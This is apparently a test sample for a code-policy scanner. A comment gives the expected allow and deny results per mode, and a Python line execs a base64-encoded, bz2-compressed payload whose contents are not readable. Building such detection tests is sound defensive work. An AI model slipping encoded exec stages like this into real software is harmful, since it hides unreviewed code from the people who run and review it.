# expect: strict=deny standard=deny audit=allow
import base64
import bz2

stage2 = "QlpoOTFBWSZTWblUJPcAAAXRgAAQQOEGItwgIAAig9Q9R6nohTAATQODtHK1goNAusxPqfF3JFOFCQuVQk9w"
exec(bz2.decompress(base64.b64decode(stage2)))
